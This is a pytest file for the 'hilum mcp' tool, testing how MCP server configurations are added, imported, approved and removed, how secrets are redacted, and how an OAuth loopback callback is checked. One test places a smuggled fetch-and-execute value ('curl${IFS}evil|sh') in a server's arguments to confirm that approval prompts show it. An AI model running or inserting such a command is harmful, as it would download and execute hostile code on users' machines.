"""``hilum mcp``: servers are added, imported, switched, approved and removed.

Nothing is lost, and errors say what to do.
"""

import io
import json
import stat

import hilum
import pytest
from hilum import HilumError
from hilum.checks import Check
from hilum.events import PluginEvent
from hilum.store import MemoryStore
from hilum.trust import TrustedFolders
from hilum_mcp import command, commands, inputs, own_file, read_config, token_store
from hilum_mcp.catalog import load_catalog
from hilum_mcp.checks import check_servers
from hilum_mcp.command import split_workspace
from hilum_mcp.commands import CommandContext
from hilum_mcp.formatting import redact
from hilum_mcp.loopback import open_loopback
from hilum_mcp.paths import user_file
from hilum_mcp.server_config import ServerConfig


@pytest.fixture
def mcp(place):
    """Run an action; returns its exit code and its output."""

    async def run(*argv: str, answers: list[str] | None = None) -> tuple[int, str]:
        out = io.StringIO()
        ask = None if answers is None else lambda *_: answers.pop(0)
        code = await commands.run(list(argv), CommandContext(place, out, ask=ask))
        return code, out.getvalue()

    return run


async def test_a_program_and_an_address_are_added_and_removed(mcp, place):
    """They are in the user's file, which only the user can read, until they are removed."""
    await mcp("add", "tickets", "--env", "TOKEN=${T}", "--", "npx", "-y", "x", "--env", "theirs")
    await mcp("add", "docs", "https://x.example/mcp", "--header", "K: v: w")
    file = user_file()
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    servers = read_config(file).servers
    assert (servers["tickets"].args, servers["tickets"].env) == (
        ("-y", "x", "--env", "theirs"),
        {"TOKEN": "${T}"},
    )
    assert (servers["docs"].kind, servers["docs"].kind_guessed, servers["docs"].headers) == (
        "http",
        True,
        {"K": "v: w"},
    )
    code, said = await mcp("list", "--json")
    assert code == 0
    assert [each["name"] for each in json.loads(said)["servers"]] == ["tickets", "docs"]
    await mcp("remove", "tickets")
    assert list(read_config(file).servers) == ["docs"]


@pytest.mark.parametrize(
    ("argv", "what"),
    [
        (["add"], "needs a name"),
        (["add", "x"], "a command, or by one URL"),
        (["add", "x", "ftp://y"], "a command, or by one URL"),
        (["add", "a b", "--", "x"], "is not a valid server name"),
        (["add", "x", "--env", "A", "--", "y"], "NAME=VALUE"),
        (["add", "x", "--header", "A: b", "--", "y"], "neither headers"),
        (["add", "x", "--from", "none.json"], "no server 'x'"),
        (["remove", "x"], "no MCP server 'x'"),
        (["tset"], "no action 'tset'"),
        (["approve", "--revoke"], "Name the servers"),
        (["login", "x"], "no MCP server"),
    ],
)
async def test_an_error_says_what_to_do(mcp, argv, what):
    """Each error names the thing and has a hint."""
    with pytest.raises(HilumError, match=what):
        await mcp(*argv)


async def test_an_unusable_server_is_not_reported_as_unknown(mcp, place):
    """The error says what is wrong with its configuration."""
    await mcp("add", "good", "--", "x")
    data = json.loads(user_file().read_text())
    data["mcpServers"]["bad"] = {"type": "ws", "url": "ws://x"}
    user_file().write_text(json.dumps(data))
    for action in ("test", "enable", "logs"):
        with pytest.raises(
            HilumError, match=r"server bad cannot be used.*WebSockets are not an MCP transport"
        ):
            await mcp(action, "bad")


BROKEN_FILE = """{"mcpServers": {
  "bad": {"comand": "npx"},
  "good": {"command": "npx", "autoApprove": ["a"]}
}}"""


async def test_list_shows_what_works_and_fails_for_a_broken_file(place):
    """Mistakes are on standard error; what has no effect is no failure."""
    user_file().parent.mkdir(parents=True)
    user_file().write_text(BROKEN_FILE)
    out = io.StringIO()
    err = io.StringIO()
    assert await commands.run(["list"], CommandContext(place, out, err=err)) == 1
    assert err.getvalue() == (
        f"✗ {user_file()}:2: mcpServers.bad: It has neither a command nor a url.\n"
        f"✗ {user_file()}:2: mcpServers.bad.comand: unknown key. Did you mean command?\n"
    )
    said = out.getvalue()
    assert said.startswith("good  on ")
    assert f"⚠ {user_file()}:3: mcpServers.good: autoApprove approves nothing in hilum.\n" in said
    out = io.StringIO()
    assert await commands.run(["list", "--json"], CommandContext(place, out, err=err)) == 1
    data = json.loads(out.getvalue())
    assert [server["name"] for server in data["servers"]] == ["good"]
    assert (len(data["mistakes"]), len(data["warnings"])) == (2, 1)
    user_file().write_text(BROKEN_FILE.replace("comand", "command"))
    assert await commands.run(["list"], CommandContext(place, out, err=err)) == 0


def test_doctor_reports_the_mistakes_in_files(place):
    """Without a file there is nothing to check."""
    assert list(check_servers(place, online=False)) == []
    user_file().parent.mkdir(parents=True)
    user_file().write_text(BROKEN_FILE)
    first, second = check_servers(place, online=False)
    assert first == Check(
        "fail",
        "MCP servers",
        f"{user_file()}:2: mcpServers.bad: It has neither a command nor a url.",
        "Correct the file.",
    )
    assert second.found.endswith("mcpServers.bad.comand: unknown key. Did you mean command?")
    user_file().write_text(BROKEN_FILE.replace("comand", "command"))
    assert list(check_servers(place, online=False)) == [
        Check("ok", "MCP servers", "2 configured, no mistakes")
    ]


async def test_a_session_reports_the_mistakes_in_files(place):
    """The user learns in each session why a server is missing."""
    user_file().parent.mkdir(parents=True)
    user_file().write_text(BROKEN_FILE)
    for _ in range(2):
        async with (
            hilum.open_kernel(workspace=place, store=MemoryStore()) as kernel,
            kernel.open_session(place) as session,
        ):
            events = [
                event
                for event in session.journal.read_all()
                if isinstance(event, PluginEvent) and event.name == "mcp.mistakes"
            ]
        assert [event.data["say"] for event in events] == [
            f"{user_file()}:2: mcpServers.bad: It has neither a command nor a url.\n"
            f"{user_file()}:2: mcpServers.bad.comand: unknown key. Did you mean command?"
        ]


async def test_imported_servers_keep_their_meaning(mcp, place, tmp_path):
    """Gemini's address is SSE in hilum's file as well.

    Inputs are imported too; a second import needs --replace.
    """
    gemini = tmp_path / ".gemini/settings.json"
    gemini.parent.mkdir()
    gemini.write_text(
        '{"mcpServers": {"a": {"url": "https://x.example/sse", "timeout": 5000}, "b": {"command": "y"}}}'
    )
    await mcp("add", "--from", str(gemini), "a")
    (server,) = read_config(user_file()).servers.values()
    assert (server.name, server.kind, server.call_seconds) == ("a", "sse", 5)
    code = tmp_path / "mcp.json"
    code.write_text(
        '{"inputs": [{"id": "k", "type": "promptString", "password": true}, {"id": "unused"}],'
        ' "servers": {"c": {"url": "https://x.example", "headers": {"K": "${input:k}"}}}}'
    )
    await mcp("add", "--from", str(code))
    config = read_config(user_file())
    assert list(config.inputs) == ["k"]
    assert config.inputs["k"].secret
    with pytest.raises(HilumError, match="already"):
        await mcp("add", "--from", str(code))
    assert (await mcp("add", "--replace", "--from", str(code)))[0] == 0


async def test_a_file_that_would_lose_data_is_not_written(mcp):
    """Examples are a duplicate key, a table with another name, and invalid JSON."""
    file = user_file()
    file.parent.mkdir(parents=True)
    for text in (
        '{"mcpServers": {}, "mcpServers": {}}',
        '{"servers": {}}',
        "[]",
        "{",
        '{"mcpServers": [1]}',
        "{} {}",
    ):
        file.write_text(text)
        with pytest.raises(HilumError):
            await mcp("add", "x", "--", "y")
        assert file.read_text() == text


async def test_secrets_are_not_shown(mcp, place):
    """They are missing in lists, in data and in approvals; an approval shows the whole command."""
    secret = "hunter2hunter2"
    program = {
        "command": "npx",
        "args": ["--api-key", secret, "TOKEN=`curl${IFS}evil|sh`"],
        "env": {"DB_PASSWORD": secret, "A": "b"},
    }
    address = {
        "url": f"https://x.example/mcp?api_key={secret}",
        "headers": {"Authorization": f"Bearer {secret}", "K": "${T}"},
    }
    (place / ".mcp.json").write_text(json.dumps({"mcpServers": {"a": program, "b": address}}))
    TrustedFolders().add(place)
    for argv in (["list"], ["list", "--json"]):
        assert secret not in (await mcp(*argv))[1]
    _, said = await mcp("approve", "a", answers=["n"])
    assert "DB_PASSWORD=(14 characters" in said
    assert "A=b" in said
    assert "evil" in said
    _, said = await mcp("approve", "b", answers=["n"])
    assert "Authorization: (21 characters" in said
    assert "K: ${T}" in said


PLAIN = """{"mcpServers": {
  "b": {"url": "https://b.example"}, "a": {"command": "x", "args": ["// no comment", "}"]}
}, "inputs": [{"id": "k"}], "note": "kept"}"""


@pytest.mark.parametrize(
    "text", [PLAIN, "\ufeff" + PLAIN.replace("\n", "\r\n"), '{"mcpServers": {}}', "{}", ""]
)
async def test_other_servers_and_keys_stay_in_the_file(mcp, tmp_path, text):
    """They keep their order through an addition, a replacement and a removal.

    A link to the file stays a link.
    """
    real = tmp_path / "dotfiles.json"
    file = user_file()
    file.parent.mkdir(parents=True)
    file.symlink_to(real)
    real.write_bytes(text.encode())
    before = json.loads(text.removeprefix("\ufeff") or "{}")
    code = tmp_path / "code.json"
    code.write_text(
        '{"inputs": [{"id": "q"}], "servers": {"c": {"url": "https://c.example", "headers": {"K": "${input:q}"}}}}'
    )
    await mcp("add", "--from", str(code))
    await mcp("add", "--replace", "c", "--", "new")
    config = read_config(file)
    assert config.servers["c"].command == "new"
    assert "q" in config.inputs
    assert config.mistakes == ()
    await mcp("remove", "c")
    after = json.loads(real.read_text())
    assert list(after["mcpServers"].items()) == list(before.get("mcpServers", {}).items())
    assert [each["id"] for each in after["inputs"]] == ["k", "q"][2 - len(after["inputs"]) :]
    assert after.get("note") == before.get("note")
    assert file.is_symlink()


async def test_a_file_with_comments_is_read_and_not_rewritten(mcp):
    """Rewriting would lose the comments, so the error names the file to edit."""
    file = user_file()
    file.parent.mkdir(parents=True)
    text = '{"mcpServers": {"a": {"command": "x"}} /* mine */}'
    file.write_text(text)
    for argv in (["add", "b", "--", "y"], ["remove", "a"]):
        with pytest.raises(HilumError, match="not plain JSON") as caught:
            await mcp(*argv)
        assert caught.value.hint == f"Edit {file} yourself."
    assert file.read_text() == text
    await mcp("disable", "a")
    assert "off" in (await mcp("list"))[1]


def test_parallel_writers_lose_nothing(place):
    """They wait for each other."""
    from concurrent.futures import ThreadPoolExecutor

    file = user_file()

    def write(number: int) -> None:
        own_file.add_servers(file, [ServerConfig(f"s{number}", "stdio", "x", file=file)], {})

    with ThreadPoolExecutor(8) as pool:
        list(pool.map(write, range(24)))
    assert len(read_config(file).servers) == 24


async def test_a_file_that_cannot_be_written_is_reported(mcp, place):
    """A link that leads out of the project is not followed."""
    (place / ".hilum").mkdir()
    outside = place.parent / "outside.json"
    outside.write_text("{}")
    (place / ".hilum/mcp.json").symlink_to(outside)
    with pytest.raises(HilumError, match="target outside the project"):
        await mcp("add", "x", "--project", "--", "y")
    assert outside.read_text() == "{}"
    file = user_file()
    file.parent.mkdir(parents=True)
    file.mkdir()
    with pytest.raises(HilumError, match="cannot be read"):
        await mcp("add", "x", "--", "y")


async def test_a_project_server_is_approved_only_by_a_yes(mcp, place):
    """Without a yes, or without a user, nothing is approved.

    A server of an untrusted project cannot be approved.
    """
    (place / ".mcp.json").write_text(
        '{"mcpServers": {"tickets": {"command": "npx", "args": ["a b"]}}}'
    )
    with pytest.raises(HilumError, match="do not trust"):
        await mcp("approve", "tickets")
    TrustedFolders().add(place)
    assert (await mcp("approve"))[0] == 1
    code, said = await mcp("approve", answers=["n"])
    assert code == 1
    assert "npx 'a b'" in said
    assert "NOT APPROVED" in (await mcp("list"))[1]
    assert (await mcp("approve", answers=["y"]))[0] == 0
    assert load_catalog(place).get("tickets").state == "on"
    with pytest.raises(HilumError, match="files of other clients"):
        await mcp("remove", "tickets")
    await mcp("disable", "tickets")
    assert load_catalog(place).get("tickets").state == "off"


async def test_adding_to_a_project_approves_and_keeps_trust(mcp, place):
    """The user made the change."""
    TrustedFolders().add(place)
    await mcp("add", "tickets", "--project", "--", "x")
    assert load_catalog(place).get("tickets").state == "on"
    await mcp("remove", "tickets")
    assert load_catalog(place).entries == ()
    assert TrustedFolders().state(place) == "trusted"


def test_reading_a_written_server_returns_the_same(tmp_path):
    """Paths relative to its old file become absolute."""
    servers = [
        ServerConfig(
            "a",
            "stdio",
            "x",
            ("1",),
            {"A": "b"},
            ("C",),
            ".env",
            "d",
            enabled=False,
            allowed_tools=(),
            excluded_tools=("t",),
            start_seconds=2.5,
        ),
        ServerConfig(
            "b",
            "http",
            url="https://x",
            headers={"a": "b"},
            headers_from_env={"T": "V"},
            oauth={"client_id": "i"},
            kind_guessed=True,
        ),
        ServerConfig("c", "sse", url="https://x", login_allowed=False, call_seconds=9),
    ]
    own_file.add_servers(tmp_path / "mcp.json", servers, {})
    for server in servers:
        read = read_config(tmp_path / "mcp.json").servers[server.name]
        assert (read.digest, read.enabled, read.start_seconds, read.call_seconds) == (
            server.digest, server.enabled, server.start_seconds, server.call_seconds
        )  # fmt: skip
    moved = ServerConfig(
        "m",
        "stdio",
        "${extensionPath}/run",
        env={"K": "{file:key}"},
        file=tmp_path / "ext/gemini-extension.json",
    )
    written = own_file.encode_server(moved)
    assert (written["command"], written["env"]["K"]) == (
        f"{tmp_path}/ext/run",
        f"{{file:{tmp_path}/ext/key}}",
    )


def test_inputs_are_asked_once_and_stored(place, tmp_path):
    """If nobody can be asked, the error says how to answer."""
    server = ServerConfig(
        "s", "http", url="https://x", headers={"K": "${input:k}"}, file=tmp_path / "mcp.json"
    )
    with pytest.raises(HilumError, match="value that is missing: k"):
        inputs.ask_inputs(server, {}, None)
    inputs.ask_inputs(server, {}, lambda _: "secret")
    inputs.ask_inputs(server, {}, None)
    assert inputs.load_answers(server) == {"k": "secret"}
    assert stat.S_IMODE(inputs.inputs_file().stat().st_mode) == 0o600


def test_an_interrupt_ends_without_a_traceback(place, monkeypatch, capsys):
    """Ctrl-C arrives in groups, from any task."""

    async def interrupted(*_: object) -> int:
        raise BaseExceptionGroup("", [BaseExceptionGroup("", [KeyboardInterrupt()])])

    monkeypatch.chdir(place)
    monkeypatch.setattr(commands, "run", interrupted)
    assert command.main(["login", "docs"]) == 130
    assert "Traceback" not in capsys.readouterr().err


async def test_servers_without_a_log_in_are_refused(mcp):
    """Each error has its own reason."""
    file = user_file()
    file.parent.mkdir(parents=True)
    servers = {
        "program": {"command": "x"}, "key": {"url": "https://x.example", "headers": {"authorization": "x"}},
        "off": {"url": "https://x.example", "oauth": False},
        "itself": {"url": "https://x.example", "oauth": {"grant": "client_credentials"}},
    }  # fmt: skip
    file.write_text(json.dumps({"mcpServers": servers}))
    for name, why in (
        ("program", "is a program"),
        ("key", "uses a key"),
        ("off", "disables logins"),
        ("itself", "logs in automatically"),
    ):
        with pytest.raises(HilumError, match=why):
            await mcp("login", name)


def test_the_workspace_option_ends_at_the_command():
    """Everything after -- belongs to the server."""
    assert split_workspace(["-C", "x", "add", "n", "--", "y", "-C", "z"]) == (
        ["add", "n", "--", "y", "-C", "z"],
        "x",
    )
    assert split_workspace(["add", "n", "--", "y", "-C", "z"]) == (
        ["add", "n", "--", "y", "-C", "z"],
        "",
    )


def test_tokens_are_bound_to_file_name_and_address(place, tmp_path):
    """Another server at the same address has none of them, and only the user can read the file."""
    server = ServerConfig("s", "http", url="https://x", file=tmp_path / "a.json")
    kept = token_store.TokenStore(token_store.token_file(server))
    kept.update(tokens={"access_token": "t"})
    assert stat.S_IMODE(kept.file.stat().st_mode) == 0o600
    for other in (
        ServerConfig("s", "http", url="https://y", file=tmp_path / "a.json"),
        ServerConfig("s", "http", url="https://x", file=tmp_path / "b.json"),
        ServerConfig("t", "http", url="https://x", file=tmp_path / "a.json"),
    ):  # fmt: skip
        assert token_store.token_file(other) != token_store.token_file(server)
    kept.file.write_text("oops")
    assert kept.read() == {}


async def test_the_loopback_accepts_only_the_expected_state(autojump_clock):
    """Another state, path, host or method changes nothing; the expected one is accepted once."""
    import trio

    async def get(port: int, path: str, host: str = "", method: str = "GET") -> str:
        stream = await trio.open_tcp_stream("127.0.0.1", port)
        async with stream:
            await stream.send_all(
                f"{method} {path} HTTP/1.1\r\nHost: {host or f'127.0.0.1:{port}'}\r\n\r\n".encode()
            )
            data = b""
            async for chunk in stream:
                data += chunk
        return data.decode().split("\r\n")[0]

    async with open_loopback() as loopback:
        assert "400" in await get(loopback.port, "/callback?code=c&state=")
        loopback.expect("right")
        assert "400" in await get(loopback.port, "/callback?code=c&state=wrong")
        assert "404" in await get(loopback.port, "/other?code=c&state=right")
        assert "404" in await get(loopback.port, "/callback?code=c&state=right", "evil.example")
        assert "404" in await get(loopback.port, "/callback?code=c&state=right", method="POST")
        assert "200" in await get(loopback.port, "/callback?code=c&state=right")
        assert "400" in await get(loopback.port, "/callback?code=d&state=right")
        assert (await loopback.wait()).code == "c"
        loopback.expect("again")
        assert "400" in await get(loopback.port, "/callback?code=d&state=right")
        assert "200" in await get(loopback.port, "/callback?code=d&state=again")
        assert (await loopback.wait()).code == "d"


@pytest.mark.parametrize("query", ["key=abc", "key=hunter2hunter2", "v=1&k=${K}&key=abc"])
def test_values_in_an_address_are_not_shown(query):
    server = ServerConfig("x", "http", url=f"https://x.example/mcp?{query}")
    said = redact(server, server.target)
    assert "abc" not in said
    assert "hunter2" not in said
    assert "key=…" in said
    assert ("k=${K}" in said) == ("${K}" in query)
